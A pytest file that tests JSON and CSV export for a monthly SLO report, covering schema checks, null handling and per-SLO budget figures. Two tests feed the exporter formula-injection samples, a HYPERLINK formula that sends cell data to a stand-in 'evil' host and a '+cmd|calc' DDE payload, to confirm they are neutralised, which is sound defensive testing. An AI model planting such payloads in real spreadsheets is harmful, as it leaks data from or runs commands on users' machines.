"""report.json against its schema, and slos.csv row by row."""

import csv
import io
import json

import jsonschema
import pytest

from reports.export import report_dict, report_json, schema, slos_csv


def test_report_json_validates_against_the_schema(example_report):
    document = json.loads(report_json(example_report))
    jsonschema.Draft202012Validator(schema(), format_checker=jsonschema.FormatChecker()).validate(document)
    assert document["schema_version"] == 1 and document["month"] == "2026-10"
    assert document["window"] == {
        "kind": "calendar-month",
        "timezone": "UTC",
        "start": "2026-10-01T00:00:00Z",
        "end": "2026-11-01T00:00:00Z",
        "minutes": 44640.0,
        "days": 31.0,
    }


def test_schema_rejects_a_report_with_a_missing_figure(example_report):
    document = report_dict(example_report)
    del document["services"][0]["slos"][0]["budget"]["remaining"]
    with pytest.raises(jsonschema.ValidationError, match="remaining"):
        jsonschema.validate(document, schema())


def test_no_data_serialises_as_null_never_as_nan(example_report):
    from dataclasses import replace

    service = example_report.services[0]
    first = service.slos[0]
    empty = replace(
        first.result,
        sli=None,
        margin=None,
        status="no data",
        no_data_reason="no events in the window",
        budget=replace(first.result.budget, consumed=None, remaining=None),
    )
    report = replace(example_report, services=(replace(service, slos=(replace(first, result=empty),)),))
    text = report_json(report)
    assert "NaN" not in text
    entry = json.loads(text)["services"][0]["slos"][0]
    assert entry["sli"] is None and entry["status"] == "no data"
    jsonschema.validate(json.loads(text), schema())


def test_slos_csv_has_one_row_per_service_and_slo(example_report):
    rows = list(csv.DictReader(io.StringIO(slos_csv(example_report))))
    assert [(r["service"], r["slo"]) for r in rows] == [
        ("model-api", "availability"),
        ("model-api", "latency"),
        ("model-api", "quality"),
        ("batch-inference", "job-success"),
        ("batch-inference", "completion-time"),
        ("feature-store", "availability"),
        ("feature-store", "latency"),
    ]
    batch = rows[3]
    assert batch["status"] == "missed" and batch["zone"] == "red"
    assert (batch["good_events"], batch["total_events"]) == ("116", "124")
    assert float(batch["sli"]) == pytest.approx(116 / 124)
    assert float(batch["budget_consumed"]) == pytest.approx((8 / 124) / 0.05)
    assert float(rows[0]["allowed_downtime_minutes"]) == pytest.approx(44.64)


def test_names_from_data_never_become_spreadsheet_formulas():
    from reports.export import cell

    assert cell('=HYPERLINK("http://evil/?x="&A1,"click")') == '\'=HYPERLINK("http://evil/?x="&A1,"click")'
    assert [cell(t) for t in ("+cmd|calc!A0", "-1", "@SUM(A1)", "\tx", "acme", "")] == [
        "'+cmd|calc!A0",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "acme",
        "",
    ]


def test_credits_csv_quotes_a_hostile_customer(tmp_path):
    from reports.export import credits_csv
    from reports.pipeline import build_month
    from reports.sources import source_for
    from tests.conftest import OCTOBER, RUN_AT, make_config

    (tmp_path / "events.csv").write_text(
        "timestamp,service,slo,customer,good,total\n2026-10-05T00:00:00Z,api,availability,=1+1,9,10\n"
    )
    config = make_config(
        tmp_path,
        customers={"default_tier": "t", "tiers": {"t": {"objective": 0.9}}},
        services=[{"name": "api", "slos": [{"name": "availability", "objective": 0.9, "sla": True}]}],
    )
    rows = list(csv.reader(io.StringIO(credits_csv(build_month(config, source_for(config), OCTOBER, RUN_AT)))))
    assert rows[1][1] == "'=1+1"
